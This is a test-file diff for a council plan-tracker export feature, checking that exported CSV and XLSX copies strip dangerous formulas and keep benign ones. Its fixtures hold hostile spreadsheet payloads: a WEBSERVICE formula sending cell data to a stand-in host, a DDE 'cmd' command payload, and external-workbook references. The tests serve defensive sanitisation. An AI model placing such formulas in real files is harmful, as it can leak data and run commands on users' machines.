@@ -206,6 +206,81 @@ describe('the plan tracker round trip', () => {
     ]);
   });
 
+  it('copies the council’s CSV cells as they were, and leaves out formulas that reach out or read the board’s columns', async () => {
+    const file = path.join(base, 'formulas.csv');
+    await fs.writeFile(
+      file,
+      [
+        'Ref,Action,Lead,Due date,RAG,Score,Sum,Leak,Reads board,Other book',
+        '1.1,Recruit coordinators,Head of SEND,31/03/2027,Amber,-5,-2+3,"=WEBSERVICE(""http://x.example/?""&B2)",=K2,=[1]Sheet1!A1',
+        "1.2,Audit plans,PEP,30/06/2027,Green,@12,=F3*2,\"=cmd|' /C calc'!A0\",=SUM(A3:E3),='C:\\x\\[Book.xlsx]S'!A1",
+      ].join('\n') + '\n',
+    );
+    const plan = await importTracker(file);
+    savePath = path.join(base, 'back.csv');
+    const result = await call<{ summary: string }>('exports:save', {
+      kind: 'tracker',
+      includeExempt: false,
+      boardName: BOARD_NAME,
+      planId: plan.plan.id,
+      revision: plan.export.revision,
+      bundle: meetingOn(plan),
+    });
+    const rows = Papa.parse<string[]>((await fs.readFile(savePath, 'utf8')).slice(1), { skipEmptyLines: true }).data;
+    // The council's own "-5", "-2+3", "@12", "=F3*2" and "=SUM(A3:E3)" are theirs, copied unprefixed.
+    expect(rows[1]?.slice(0, 10)).toEqual(['1.1', 'Recruit coordinators', 'Head of SEND', '31/03/2027', 'Amber', '-5', '-2+3', '', '', '']);
+    expect(rows[2]?.slice(0, 10)).toEqual(['1.2', 'Audit plans', 'PEP', '30/06/2027', 'Green', '@12', '=F3*2', '', '=SUM(A3:E3)', '']);
+    // The board's cells are neutralised.
+    expect(rows[1]?.[11]).toBe("'=Recruitment has stalled");
+    expect(result.summary).toContain('5 of the council’s formulas were left out of the copy: H2 (it calls WEBSERVICE');
+    expect(result.summary).toContain('I2 (it reads the board’s added columns)');
+    expect(result.summary).toContain('J2 (it reads another workbook');
+  });
+
+  it('leaves out XLSX formulas, on any sheet, that reach out of the workbook or read the board’s columns, and keeps the rest', async () => {
+    const file = path.join(base, 'formulas.xlsx');
+    const workbook = new ExcelJS.Workbook();
+    const sheet = workbook.addWorksheet('Tracker');
+    sheet.addRow(['Ref', 'Action', 'Lead', 'Due date', 'RAG', 'Notes']);
+    sheet.addRow(['1.1', 'Recruit EHC coordinators', 'Head of SEND', '31/03/2027', 'Amber', 'On track']);
+    sheet.addRow(['1.2', 'Audit EHC plans', 'PEP', '30/06/2027', 'Green', 'Started']);
+    sheet.getCell('G2').value = { formula: 'LEN(B2)', result: 24 };
+    sheet.getCell('H2').value = { formula: 'WEBSERVICE("http://x.example/?q="&B2)', result: 'sent' };
+    sheet.getCell('I2').value = { formula: 'SUM(J2:M2)', result: 0 };
+    const summary = workbook.addWorksheet('Summary');
+    summary.getCell('A1').value = { formula: 'Tracker!K2', result: 0 };
+    summary.getCell('A2').value = { formula: '[1]Sheet1!A1', result: 7 };
+    summary.getCell('A3').value = { formula: 'COUNTA(Tracker!A2:F3)', result: 12 };
+    summary.getCell('A4').value = { formula: 'K2', result: 5 };
+    await workbook.xlsx.writeFile(file);
+    const plan = await importTracker(file);
+    savePath = path.join(base, 'out.xlsx');
+    const result = await call<{ summary: string }>('exports:save', {
+      kind: 'tracker',
+      includeExempt: false,
+      boardName: BOARD_NAME,
+      planId: plan.plan.id,
+      revision: plan.export.revision,
+      bundle: meetingOn(plan),
+    });
+    const back = new ExcelJS.Workbook();
+    await back.xlsx.readFile(savePath);
+    const tracker = back.getWorksheet('Tracker');
+    const other = back.getWorksheet('Summary');
+    expect(tracker?.getCell('G2').value).toEqual({ formula: 'LEN(B2)', result: 24 });
+    // Left out: the last value stays, the formula goes.
+    expect(tracker?.getCell('H2').value).toBe('sent');
+    expect(tracker?.getCell('I2').value).toBe(0);
+    expect(other?.getCell('A1').value).toBe(0);
+    expect(other?.getCell('A2').value).toBe(7);
+    expect(other?.getCell('A3').value).toEqual({ formula: 'COUNTA(Tracker!A2:F3)', result: 12 });
+    // "K2" on the Summary sheet is Summary's own cell, not the board's column.
+    expect(other?.getCell('A4').value).toEqual({ formula: 'K2', result: 5 });
+    expect(result.summary).toContain('4 of the council’s formulas were left out of the copy');
+    expect(result.summary).toContain('Tracker!H2 (it calls WEBSERVICE');
+    expect(result.summary).toContain('Summary!A2 (it reads another workbook');
+  });
+
   it('says so when the plan’s current revision did not come from a spreadsheet', async () => {
     const result = await services.dispatch('exports:save', sender, {
       kind: 'tracker',
